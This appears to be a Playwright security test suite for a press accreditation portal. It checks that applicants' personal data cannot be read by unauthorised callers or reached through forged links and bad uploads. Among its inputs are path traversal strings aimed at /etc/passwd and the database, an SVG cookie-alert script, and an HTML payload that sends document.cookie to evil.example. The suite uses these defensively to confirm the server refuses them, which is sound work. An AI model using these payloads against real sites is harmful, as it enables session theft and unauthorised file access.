import { randomBytes, randomInt } from 'node:crypto'
import { existsSync, readdirSync } from 'node:fs'
import http from 'node:http'
import { tmpdir } from 'node:os'
import path from 'node:path'

import { type APIRequestContext, type APIResponse, expect, test } from '@playwright/test'

import { minimalPdf, portraitJpeg } from '../support/sampleFiles'
import { allMail, statusLinkIn, waitForMail } from './mailbox'
import { openEventApplicationForm } from './journalists'
import { E2E_CMS_URL, E2E_SITE_URL, E2E_TEMP_NAME } from './ports'
import { signIn, staffEmail } from './staffApi'

/**
 * Applicants' personal data, attacked from outside as a stranger would: the REST and GraphQL
 * APIs without a login and with the tokens of staff who must not see it, forged status links,
 * paths that try to leave the upload folders, and bad bodies sent to the form. Only the applicant
 * (through their link) and accreditation staff may read an application.
 */
test.describe.configure({ mode: 'serial' })

const SITE = E2E_SITE_URL
const CMS = E2E_CMS_URL
// The portal serve.ts started (tests/support/tempPortal.ts): its private upload folder.
const PORTAL_DIR = path.join(tmpdir(), E2E_TEMP_NAME)
const PRIVATE_FILES = path.join(PORTAL_DIR, 'data', 'private', 'applicant-files')

/** A name and an ID number nobody else has, so a leak of either can be spotted in any response. */
function uniqueApplicant() {
  const letters = 'abcdeghiklmnopqrstuvxy'
  const word = () =>
    `Đ${Array.from({ length: 6 }, () => letters[randomInt(letters.length)]).join('')}`
  return {
    fullName: `Kiểm ${word()} ${word()}`,
    idNumber: `0961900${String(randomInt(100_000)).padStart(5, '0')}`,
  }
}

/** The headers a browser on the site itself sends: Astro refuses form posts from other origins. */
const FROM_SITE = { Origin: SITE, Accept: 'application/json' }

type Posted = {
  status: number
  json: { ok?: boolean; redirect?: string; errors?: Record<string, string> } | null
}

async function postForm(request: APIRequestContext, form: FormData): Promise<Posted> {
  const response = await request.post(`${SITE}/accreditation/`, {
    multipart: form,
    headers: FROM_SITE,
    maxRedirects: 0,
  })
  return { status: response.status(), json: await response.json().catch(() => null) }
}

/** The status token of an application, from the confirmation e-mail: the form's answer never carries it. */
async function tokenFor(form: FormData): Promise<string> {
  const email = String(form.get('email'))
  const mail = await waitForMail(
    (m) => m.to.includes(email) && /[A-Z0-9]{1,8}-\d{4}/.test(m.subject),
  )
  return /\/accreditation\/status\/([^/]+)\//.exec(statusLinkIn(mail))![1]!
}

const applicant = uniqueApplicant()
let requestId = ''
let statusToken = ''
let storedFiles: { id: number; filename: string }[] = []
let officer: APIRequestContext
const CALLERS = [
  { who: 'an anonymous caller', role: null },
  { who: 'an editor', role: 'editor' },
  { who: 'check-in staff', role: 'checkin-staff' },
] as const
const callers = new Map<string, APIRequestContext>()

async function counts() {
  const total = async (collection: string) =>
    (
      (await (await officer.get(`${CMS}/api/${collection}?limit=1&depth=0`)).json()) as {
        totalDocs: number
      }
    ).totalDocs
  return {
    requests: await total('accreditation-requests'),
    files: await total('applicant-files'),
    onDisk: existsSync(PRIVATE_FILES) ? readdirSync(PRIVATE_FILES).length : 0,
  }
}

/** Runs an attack and checks that it left nothing behind: no request, no file row, no file on disk. */
async function storesNothing(attack: () => Promise<number>) {
  const before = await counts()
  const status = await attack()
  expect(status, 'a client error, never a server error').toBeGreaterThanOrEqual(400)
  expect(status).toBeLessThan(500)
  expect(await counts()).toEqual(before)
}

function expectNoPersonalData(body: string, what: string) {
  expect(body, `${what} leaked the name`).not.toContain(applicant.fullName)
  expect(body, `${what} leaked the ID number`).not.toContain(applicant.idNumber)
}

test.beforeAll(async ({ playwright, request }) => {
  const form = await openEventApplicationForm({
    ...applicant,
    email: `attack.${Date.now()}@example.vn`,
  })
  const sent = await postForm(request, form)
  expect(sent.status, JSON.stringify(sent.json)).toBe(200)
  statusToken = await tokenFor(form)
  requestId = statusToken.split('.')[0]!
  officer = await signIn(playwright, staffEmail('accreditation-officer'))
  const doc = (await (
    await officer.get(`${CMS}/api/accreditation-requests/${requestId}?depth=1`)
  ).json()) as Record<string, { id: number; filename: string }>
  storedFiles = [doc.portrait!, doc.letter!]
  for (const { who, role } of CALLERS)
    callers.set(
      who,
      role ? await signIn(playwright, staffEmail(role)) : await playwright.request.newContext(),
    )
})

test.afterAll(async () => {
  await Promise.all([officer, ...callers.values()].map((api) => api?.dispose()))
})

const GRAPHQL_LIST = '{ AccreditationRequests { docs { fullName idNumber } } }'
const graphqlOne = (id: string) => `{ AccreditationRequest(id: ${id}) { fullName idNumber } }`

test('the accreditation officer can read the application and its files (the control for the tests below)', async () => {
  const doc = (await (
    await officer.get(`${CMS}/api/accreditation-requests/${requestId}`)
  ).json()) as { fullName: string; idNumber: string }
  expect([doc.fullName, doc.idNumber]).toEqual([applicant.fullName, applicant.idNumber])
  const list = await (await officer.get(`${CMS}/api/accreditation-requests?limit=100`)).text()
  expect(list).toContain(applicant.idNumber)
  const portrait = await officer.get(`${CMS}/api/applicant-files/file/${storedFiles[0]!.filename}`)
  expect(portrait.status()).toBe(200)
  expect(portrait.headers()['content-type']).toBe('image/jpeg')
  expect([...(await portrait.body()).subarray(0, 2)]).toEqual([0xff, 0xd8])
  expect(
    (await officer.get(`${CMS}/api/applicant-files/file/${storedFiles[1]!.filename}`)).status(),
  ).toBe(200)
  expect((await officer.get(`${CMS}/api/applicant-files/${storedFiles[0]!.id}`)).status()).toBe(200)
  // GraphQL is switched off for everyone, staff included: one less door to guard.
  expect(
    (await officer.post(`${CMS}/api/graphql`, { data: { query: graphqlOne(requestId) } })).status(),
  ).toBe(404)
})

for (const { who, role } of CALLERS) {
  test(`${who} gets no personal data from the REST or GraphQL API`, async () => {
    const api = callers.get(who)!
    // The token is real: the API knows who is calling (and an anonymous caller is nobody).
    const me = (await (await api.get(`${CMS}/api/users/me`)).json()) as {
      user: { email: string } | null
    }
    expect(me.user?.email ?? null).toBe(role ? staffEmail(role) : null)
    const reads = [
      '/api/accreditation-requests',
      '/api/accreditation-requests?where[idNumber][equals]=' + applicant.idNumber,
      `/api/accreditation-requests/${requestId}`,
      '/api/applicant-files',
      ...storedFiles.map((file) => `/api/applicant-files/${file.id}`),
      ...storedFiles.map((file) => `/api/applicant-files/file/${file.filename}`),
      '/api/accreditation-requests/count',
      '/api/accreditation-requests/vetting/export',
      '/api/audit-entries',
      `/api/audit-entries?where[request][equals]=${requestId}`,
    ]
    for (const address of reads) {
      const response = await api.get(CMS + address)
      const body = await response.text()
      expectNoPersonalData(body, `${who}: GET ${address}`)
      if (response.status() === 200)
        expect((JSON.parse(body) as { docs?: unknown[] }).docs, `${who}: GET ${address}`).toEqual(
          [],
        )
      // A refusal looks like absence: nothing confirms that the request or file exists.
      else expect(response.status(), `${who}: GET ${address}`).toBe(404)
    }
    for (const query of [GRAPHQL_LIST, graphqlOne(requestId)]) {
      const response = await api.post(`${CMS}/api/graphql`, { data: { query } })
      expectNoPersonalData(await response.text(), `${who}: GraphQL ${query}`)
      expect(response.status(), `${who}: GraphQL`).toBe(404)
    }
  })
}

test('forged, guessed and path-traversing status links get the 404 page and no file', async ({
  request,
}) => {
  const [id, carried, mac] = statusToken.split('.') as [string, string, string]
  const flipped = `${mac.slice(0, -1)}${mac.endsWith('A') ? 'B' : 'A'}`
  const forged = [
    `${id}.${carried}.${flipped}`,
    `${Number(id) + 1}.${carried}.${mac}`,
    `${id}.${randomBytes(32).toString('base64url')}.${mac}`,
    `${id}.${mac}`,
    `${randomInt(1, 10_000)}.${randomBytes(16).toString('base64url')}`,
    randomBytes(24).toString('hex'),
    `${id}`,
    `${statusToken}x`,
    '..%2F..%2Fetc%2Fpasswd',
    '..%2F..%2F..%2Fdata%2Fportal.db',
    '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  ]
  for (const token of forged) {
    const page = await request.get(`${SITE}/accreditation/status/${token}/`)
    expect(page.status(), token).toBe(404)
    const body = await page.text()
    expect(body).toContain('Không tìm thấy trang')
    expectNoPersonalData(body, `status page ${token}`)
    for (const file of ['portrait', 'letter']) {
      const response = await request.get(`${SITE}/accreditation/status/${token}/${file}`)
      expect(response.status(), `${token}/${file}`).toBe(404)
      expect(response.headers()['content-type']).not.toMatch(/image|pdf/)
    }
  }
  // The genuine link still opens, so the 404s above are the link check at work.
  const genuine = await request.get(`${SITE}/accreditation/status/${statusToken}/`)
  expect(genuine.status()).toBe(200)
  expect(await genuine.text()).toContain(applicant.fullName)
  expect(
    (await request.get(`${SITE}/accreditation/status/${statusToken}/portrait`)).headers()[
      'content-type'
    ],
  ).toBe('image/jpeg')
})

/** Posts the status page's two forms (withdraw, answer) to a link; resolves to the two statuses. */
async function postStatusForms(request: APIRequestContext, link: string) {
  const withdraw = await request.post(link, {
    form: { action: 'withdraw', confirm: 'on' },
    headers: { Origin: SITE },
    maxRedirects: 0,
  })
  const answer = await request.post(link, {
    multipart: { action: 'answer', answer: 'Tôi là kẻ giả mạo.' },
    headers: { Origin: SITE },
    maxRedirects: 0,
  })
  for (const response of [withdraw, answer])
    expectNoPersonalData(await response.text(), `POST ${link}`)
  return [withdraw.status(), answer.status()]
}

const forgedLink = () =>
  `${SITE}/accreditation/status/${statusToken.split('.')[0]}.${randomBytes(32).toString('base64url')}.${randomBytes(16).toString('base64url')}/`

test('a forged status link cannot withdraw or answer the application', async ({ request }) => {
  const statuses = await postStatusForms(request, forgedLink())
  for (const status of statuses) expect(status).toBeGreaterThanOrEqual(400)
  const doc = (await (
    await officer.get(`${CMS}/api/accreditation-requests/${requestId}`)
  ).json()) as { status: string; applicantAnswer: string | null }
  expect([doc.status, doc.applicantAnswer]).toEqual(['submitted', null])
})

test('a form posted to a forged status link gets the 404 page, not a server error', async ({
  request,
}) => {
  expect(await postStatusForms(request, forgedLink())).toEqual([404, 404])
})

test('paths that try to leave the public upload folder get a 404', async ({ request }) => {
  for (const address of [
    '/media/..%2F..%2Fdata%2Fportal.db',
    '/media/..%2Fdata%2Fportal.db',
    '/media/%2e%2e%2f%2e%2e%2fdata%2fportal.db',
    '/media/..%252F..%252Fdata%252Fportal.db',
    '/media/..%5C..%5Cdata%5Cportal.db',
    `/media/..%2Fdata%2Fprivate%2Fapplicant-files%2F${storedFiles[0]!.filename}`,
    `/media/${storedFiles[0]!.filename}`,
  ]) {
    const response = await request.get(SITE + address)
    expect(response.status(), address).toBe(404)
    const body = await response.body()
    expect(body.subarray(0, 15).toString('latin1'), address).not.toBe('SQLite format 3')
    expect([...body.subarray(0, 2)], address).not.toEqual([0xff, 0xd8])
  }
})

test.describe('bad input to the application form', () => {
  const validForm = () =>
    openEventApplicationForm({ ...uniqueApplicant(), email: `bad.input.${Date.now()}@example.vn` })
  const withPortrait = async (bytes: Buffer | string, name: string, type: string) => {
    const form = await validForm()
    form.set(
      'portrait',
      new Blob([typeof bytes === 'string' ? bytes : new Uint8Array(bytes)], { type }),
      name,
    )
    return form
  }
  const expectPortraitError = async (request: APIRequestContext, form: FormData, code: string) => {
    const sent = await postForm(request, form)
    expect(sent.json?.errors?.portrait, JSON.stringify(sent.json)).toBe(code)
    return sent.status
  }

  test('a JSON body is not a form', async ({ request }) => {
    await storesNothing(async () => {
      const response = await request.post(`${SITE}/accreditation/`, {
        data: { fullName: applicant.fullName, idNumber: '096190012345' },
        headers: FROM_SITE,
      })
      expect((await response.json()).errors).toEqual({ form: 'not_a_form' })
      return response.status()
    })
  })

  test('a malformed multipart body is refused, not a crash', async ({ request }) => {
    await storesNothing(async () => {
      const body = Buffer.from(
        '--XYZ\r\nContent-Disposition: form-data; name="fullName"\r\n\r\nunterminated',
        'latin1',
      )
      const response = await request.post(`${SITE}/accreditation/`, {
        data: body,
        headers: { ...FROM_SITE, 'Content-Type': 'multipart/form-data; boundary=XYZ' },
      })
      return response.status()
    })
    await storesNothing(async () => {
      const response = await request.post(`${SITE}/accreditation/`, {
        data: Buffer.from('garbage'),
        headers: { ...FROM_SITE, 'Content-Type': 'multipart/form-data' },
      })
      return response.status()
    })
  })

  test('a 25 MB body is refused as too large, with or without a Content-Length', async ({
    request,
  }) => {
    await storesNothing(async () => {
      const form = await withPortrait(
        Buffer.alloc(25 * 1024 * 1024, 0xff),
        'huge.jpg',
        'image/jpeg',
      )
      const sent = await postForm(request, form)
      expect(sent.json?.errors?.form).toBe('too_large')
      return sent.status
    })
    // Chunked: the size is only known once the body has been read.
    await storesNothing(() => postChunked(25))
  })

  test('a PDF renamed .jpg is not taken as a portrait', async ({ request }) => {
    await storesNothing(async () =>
      expectPortraitError(
        request,
        await withPortrait(minimalPdf(), 'portrait.jpg', 'image/jpeg'),
        'not_image',
      ),
    )
  })

  test('an SVG is not taken as a portrait', async ({ request }) => {
    const svg =
      '<svg xmlns="http://www.w3.org/2000/svg" width="600" height="800"><script>alert(document.cookie)</script></svg>'
    await storesNothing(async () =>
      expectPortraitError(request, await withPortrait(svg, 'portrait.jpg', 'image/jpeg'), 'svg'),
    )
    await storesNothing(async () =>
      expectPortraitError(
        request,
        await withPortrait(`<?xml version="1.0"?>\n${svg}`, 'portrait.svg', 'image/svg+xml'),
        'svg',
      ),
    )
  })

  test('an HTML file is not taken as a portrait', async ({ request }) => {
    const html =
      '<!doctype html><html><body><script>fetch("https://evil.example/?"+document.cookie)</script></body></html>'
    await storesNothing(async () =>
      expectPortraitError(request, await withPortrait(html, 'portrait.jpg', 'image/jpeg'), 'html'),
    )
  })

  test('a form posted from another site is refused', async ({ request }) => {
    await storesNothing(async () => {
      const response = await request.post(`${SITE}/accreditation/`, {
        multipart: await validForm(),
        headers: { Origin: 'https://evil.example', Accept: 'application/json' },
      })
      return response.status()
    })
  })

  test('a file name with path parts is ignored: the file is stored under a random name inside the private folder', async ({
    request,
  }) => {
    const before = await counts()
    const form = await withPortrait(await portraitJpeg(), '../../evil.jpg', 'image/jpeg')
    form.set(
      'letter',
      new Blob([new Uint8Array(minimalPdf())], { type: 'application/pdf' }),
      '../../../evil.pdf',
    )
    const sent = await postForm(request, form)
    expect(sent.status, JSON.stringify(sent.json)).toBe(200)
    const id = (await tokenFor(form)).split('.')[0]
    const doc = (await (
      await officer.get(`${CMS}/api/accreditation-requests/${id}?depth=1`)
    ).json()) as Record<string, { filename: string }>
    for (const file of [doc.portrait!, doc.letter!]) {
      expect(file.filename).toMatch(/^[0-9a-f-]{36}\.(jpg|pdf)$/)
      expect(existsSync(path.join(PRIVATE_FILES, file.filename))).toBe(true)
    }
    for (const dir of [
      PORTAL_DIR,
      path.join(PORTAL_DIR, 'data'),
      path.join(PORTAL_DIR, 'data', 'private'),
      PRIVATE_FILES,
      tmpdir(),
    ]) {
      expect(
        existsSync(path.join(dir, 'evil.jpg')) || existsSync(path.join(dir, 'evil.pdf')),
        dir,
      ).toBe(false)
    }
    expect(await counts()).toEqual({
      requests: before.requests + 1,
      files: before.files + 2,
      onDisk: before.onDisk + 2,
    })
  })

  test('a replayed form (same idempotency key) returns the same reference and stores one application', async ({
    request,
  }) => {
    const before = await counts()
    const form = await validForm()
    const first = await postForm(request, form)
    const again = await postForm(request, form)
    expect([first.status, again.status]).toEqual([200, 200])
    expect(again.json).toEqual(first.json)
    expect(await counts()).toEqual({
      requests: before.requests + 1,
      files: before.files + 2,
      onDisk: before.onDisk + 2,
    })
  })

  test('a second application for an ID number that has applied is answered exactly like a new one, and only the first applicant hears of it', async ({
    request,
  }) => {
    const person = uniqueApplicant()
    const [ownerEmail, strangerEmail, freshEmail] = ['owner', 'stranger', 'fresh'].map(
      (who) => `dup.${who}.${Date.now()}@example.vn`,
    ) as [string, string, string]
    await postForm(request, await openEventApplicationForm({ ...person, email: ownerEmail }))
    await waitForMail((m) => m.to.includes(ownerEmail))
    const before = await counts()
    const plain = async (form: FormData) => {
      const response = await request.post(`${SITE}/accreditation/`, {
        multipart: form,
        headers: { Origin: SITE },
        maxRedirects: 0,
      })
      return { status: response.status(), location: response.headers()['location'] }
    }
    const duplicate = await postForm(
      request,
      await openEventApplicationForm({ ...person, email: strangerEmail }),
    )
    const fresh = await postForm(
      request,
      await openEventApplicationForm({ ...uniqueApplicant(), email: freshEmail }),
    )
    expect(duplicate).toEqual(fresh)
    expect(JSON.stringify(duplicate.json)).not.toContain('/status/')
    expect(
      await plain(await openEventApplicationForm({ ...person, email: strangerEmail })),
    ).toEqual(
      await plain(
        await openEventApplicationForm({
          ...uniqueApplicant(),
          email: `dup.other.${Date.now()}@example.vn`,
        }),
      ),
    )
    expect((await counts()).requests).toBe(before.requests + 2)
    const reminder = await waitForMail(
      (m) => m.to.includes(ownerEmail) && m.subject.includes('đã tồn tại'),
    )
    expect(statusLinkIn(reminder)).toContain('/accreditation/status/')
    expect(
      (await allMail()).some((m) => m.to.includes(strangerEmail)),
      'the stranger was told something',
    ).toBe(false)
  })
})

// One client behind the proxy (the test portal trusts X-Forwarded-For): it uses up its own
// status-link allowance for the rest of the minute, and nobody else's.
test('hammering a forged status link is throttled with 429', async ({ request }) => {
  const [id] = statusToken.split('.') as [string]
  const forged = `${SITE}/accreditation/status/${id}.${randomBytes(16).toString('base64url')}/`
  const client = { 'X-Forwarded-For': `198.51.100.${randomInt(1, 254)}` }
  const statuses: number[] = []
  let throttled: APIResponse | undefined
  for (let round = 0; round < 50 && !throttled; round++) {
    const responses = await Promise.all(
      Array.from({ length: 10 }, () => request.get(forged, { headers: client })),
    )
    statuses.push(...responses.map((r) => r.status()))
    throttled = responses.find((r) => r.status() === 429)
  }
  expect(throttled, `statuses seen: ${[...new Set(statuses)].join(', ')}`).toBeDefined()
  expect(Number(throttled!.headers()['retry-after'])).toBeGreaterThan(0)
  expect(new Set(statuses)).toEqual(new Set([404, 429]))
})

/** A multipart body of `megabytes` sent with chunked transfer encoding (no Content-Length); resolves to the status. */
function postChunked(megabytes: number): Promise<number> {
  const url = new URL(`${SITE}/accreditation/`)
  return new Promise((resolve, reject) => {
    const req = http.request({
      host: url.hostname,
      port: url.port,
      path: url.pathname,
      method: 'POST',
      headers: {
        ...FROM_SITE,
        'Content-Type': 'multipart/form-data; boundary=XYZ',
        'Transfer-Encoding': 'chunked',
      },
    })
    req.on('response', (response) => {
      response.resume()
      response.on('end', () => resolve(response.statusCode ?? 0))
    })
    req.on('error', reject)
    req.write(
      '--XYZ\r\nContent-Disposition: form-data; name="portrait"; filename="huge.jpg"\r\nContent-Type: image/jpeg\r\n\r\n',
    )
    const megabyte = Buffer.alloc(1024 * 1024, 0xff)
    for (let i = 0; i < megabytes; i++) req.write(megabyte)
    req.end('\r\n--XYZ--\r\n')
  })
}
